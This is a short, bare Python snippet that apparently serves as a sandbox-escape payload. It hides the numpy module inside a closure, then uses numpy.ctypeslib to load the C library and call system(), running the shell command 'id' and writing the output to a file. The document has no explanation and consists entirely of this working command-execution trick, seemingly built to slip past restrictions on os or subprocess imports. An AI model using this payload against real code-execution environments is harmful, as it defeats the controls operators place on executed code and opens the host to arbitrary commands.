def my_clo(x):

    def f():
        return x
    return f
import numpy as np
my_clo(np)().ctypeslib.load_library('libc.so.6', '/lib/x86_64-linux-gnu').system(b'id>pf')
